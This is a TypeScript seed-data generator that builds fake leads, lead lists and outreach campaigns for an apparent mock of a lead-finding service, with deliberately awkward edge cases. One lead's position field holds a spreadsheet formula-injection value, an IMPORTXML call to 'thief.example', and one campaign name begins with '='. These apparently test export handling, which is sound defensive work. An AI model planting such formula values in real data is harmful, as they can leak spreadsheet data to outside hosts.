import { type Company, companies } from "../data/companies.ts";
import { Dice } from "../data/dice.ts";
import { plainLetters, someName } from "../data/people.ts";
import { recipientOf } from "./campaigns.ts";
import {
  type CampaignRecord,
  hunterTime,
  type LeadRecord,
  type ListRecord,
  type Recipient,
} from "./shapes.ts";
import type { HunterSeed } from "./store.ts";

const DAY_MS = 86_400_000;
const SEED = 97;

const LISTS = [
  "Web agencies",
  "Data teams",
  "Mobile studios",
  "Partners",
  "Alumni employers",
  "New this autumn",
];
const POSITIONS = [
  "HR Manager",
  "Head of Talent",
  "Engineering Manager",
  "Recruiter",
  "Cofounder",
  "Design Lead",
];
const COUNTRIES = ["CA", "US", "DE", "FR"];

/** Odd leads, by how many places they stand from the oldest. */
const AWKWARD: Readonly<Record<number, Partial<LeadRecord>>> = {
  5: { position: '=IMPORTXML("https://thief.example","//a")', notes: "-1" },
  12: { phone_number: "+1 555 0100", twitter: "@x", attributes: { customer_id: "00123" } },
  19: { first_name: "👩🏽‍💻", last_name: "שרה כהן" },
  26: { company: "1/2", company_size: "TRUE", notes: 'Said "yes",\nthen "no"' },
  33: {
    first_name: null,
    last_name: null,
    position: null,
    company: null,
    website: null,
    company_industry: null,
  },
  40: { email: "no-at-sign" },
  47: { email: "claimed.person@harboranalytics.example" },
  54: { email: "claimed-by-law@bluefinhealth.example" },
  61: { verification: { date: "2021-01-01 12:00:00 UTC", status: "deliverable" } },
};

const CLAIMED = ["claimed-by-law@bluefinhealth.example"];

/** The sample's leads, lists, attributes and campaigns; the same for the same "now" and number of leads. */
export function seedHunter(nowMs: number, leadCount: number): HunterSeed {
  const dice = new Dice(SEED);
  const lists = LISTS.map((name, index) => ({
    id: index + 1,
    name,
    created_at: hunterTime(nowMs - (400 - index * 60) * DAY_MS),
  }));
  const leads = seedLeads(dice, nowMs, leadCount, lists);
  return {
    leads,
    lists,
    attributes: [
      { id: 1, label: "Campaign ID", slug: "campaign_id" },
      { id: 2, label: "Customer ID", slug: "customer_id" },
      { id: 3, label: "Met at", slug: "met_at" },
    ],
    campaigns: seedCampaigns(leads, new Date(nowMs).getUTCFullYear()),
    claimed: CLAIMED,
  };
}

function seedLeads(dice: Dice, nowMs: number, count: number, lists: readonly ListRecord[]): LeadRecord[] {
  const places = companies(300);
  const taken = new Set<string>();
  const leads: LeadRecord[] = [];
  const eachMs = (390 * DAY_MS) / Math.max(1, count);
  for (let index = 0; index < count; index++) {
    // Every tenth was brought in with the one before it, in the same second.
    const age = count - (index % 10 === 9 ? index - 1 : index);
    const createdMs = nowMs - Math.round(age * eachMs);
    const lead = seedLead(dice, index + 1, dice.pick(places), createdMs, nowMs, lists);
    const email = taken.has(lead.email) ? lead.email.replace("@", `${index}@`) : lead.email;
    taken.add(email);
    leads.push({ ...lead, email, ...AWKWARD[index] });
  }
  return leads;
}

function seedLead(
  dice: Dice,
  id: number,
  company: Company,
  createdMs: number,
  nowMs: number,
  lists: readonly ListRecord[],
): LeadRecord {
  const name = someName(dice);
  const local = `${plainLetters(name.givenName)}.${plainLetters(name.familyName)}`;
  const maybe = <T>(probability: number, value: T): T | null => (dice.chance(probability) ? value : null);
  const verified = dice.chance(0.6);
  const contacted = dice.chance(0.3);
  const laterMs = Math.min(nowMs, createdMs + dice.between(1, 20) * DAY_MS);
  const attributes: Record<string, string> = {};
  if (dice.chance(0.4)) attributes.customer_id = `cus-${dice.between(1_000, 9_999)}`;
  if (dice.chance(0.2)) attributes.met_at = dice.pick(["Career fair", "Open house", "Conference"]);
  return {
    id,
    email: `${local}@${company.domain}`,
    first_name: name.givenName,
    last_name: name.familyName,
    position: maybe(0.8, dice.pick(POSITIONS)),
    company: company.name,
    company_industry: maybe(0.7, company.industry),
    company_size: maybe(0.6, company.size),
    confidence_score: maybe(0.7, dice.between(40, 99)),
    website: company.domain,
    country_code: maybe(0.6, dice.pick(COUNTRIES)),
    source: maybe(0.5, dice.pick(["domain_search", "email_finder", "import"])),
    linkedin_url: maybe(0.3, `https://www.linkedin.example/in/${local}`),
    phone_number: maybe(0.2, `+1 604 555 0${dice.between(100, 199)}`),
    twitter: maybe(0.2, local.replace(".", "_")),
    sync_status: maybe(0.3, dice.pick(["pending", "error", "success"])),
    notes: maybe(0.2, dice.pick(["Answers on Mondays", "Knows two of our alumni", "Prefers the phone"])),
    sending_status: contacted
      ? dice.pick(["sent", "opened", "clicked", "replied", "bounced", "unsubscribed"])
      : null,
    last_activity_at: contacted ? hunterTime(laterMs) : null,
    last_contacted_at: contacted ? hunterTime(laterMs) : null,
    verification: verified
      ? {
          date: hunterTime(laterMs),
          status: dice.pick([
            "valid",
            "valid",
            "valid",
            "accept_all",
            "invalid",
            "webmail",
            "unknown",
            "disposable",
            "pending",
          ]),
        }
      : { date: null, status: null },
    attributes,
    leads_list_id: dice.pick(lists).id,
    created_at: hunterTime(createdMs),
  };
}

function seedCampaigns(leads: readonly LeadRecord[], year: number): CampaignRecord[] {
  const reachable = leads.filter((lead) => lead.email.includes("@") && !lead.email.startsWith("claimed"));
  const of = (from: number, count: number, statuses: readonly string[]): Recipient[] =>
    reachable.slice(from, from + count).map((lead, index) => ({
      ...recipientOf(lead),
      sending_status: statuses[index % statuses.length] ?? null,
    }));
  const campaign = (
    id: number,
    name: string,
    recipients: Recipient[],
    flags: Partial<CampaignRecord>,
  ): CampaignRecord => ({
    id,
    name,
    editable: true,
    started: false,
    archived: false,
    paused: false,
    recipients,
    removed: [],
    ...flags,
  });
  const lively = ["sent", "opened", "replied", "clicked", "bounced", "sent", "unsubscribed", "error"];
  const removed = reachable.slice(200, 202).map((lead) => lead.email);
  return [
    campaign(1, `Employers of ${year - 1}`, of(0, 85, lively), {
      started: true,
      archived: true,
      editable: false,
    }),
    campaign(2, "Spring employer outreach", of(60, 120, [...lively, "pending"]), {
      started: true,
      paused: true,
      removed,
    }),
    campaign(3, "Autumn hiring partners", of(150, 39, ["pending", "pending", "sent"]), { started: true }),
    campaign(4, "=Thank you notes", [], {}),
  ];
}
